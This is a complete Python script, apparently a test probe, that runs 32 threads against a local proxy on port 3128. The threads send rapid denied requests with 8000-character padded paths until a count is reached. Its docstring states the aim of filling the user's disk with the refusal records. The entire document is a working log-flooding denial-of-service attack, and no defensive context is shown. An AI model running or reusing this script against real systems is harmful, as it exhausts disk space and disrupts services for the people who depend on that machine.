"""Asks for what it will be refused, as fast as it can and in as many words as it can, to fill the
user's disk with records of it. It counts what it was told."""
import http.client, sys, threading

enough = int(sys.argv[1])
told = []
heard = 0

def flood(number):
    global heard
    mine = 0
    to = http.client.HTTPConnection("127.0.0.1", 3128, timeout=20)
    while heard < enough:
        try:
            to.request("GET", f"http://nobody.example/{number}/{mine}/" + "x" * 8000)
            reply = to.getresponse()
            reply.read()
            if reply.status == 403:
                mine += 1
                heard += 1
        except (OSError, http.client.HTTPException):
            to.close()
    told.append(mine)

threads = [threading.Thread(target=flood, args=(number,)) for number in range(32)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("told", sum(told))
print("TRIED")
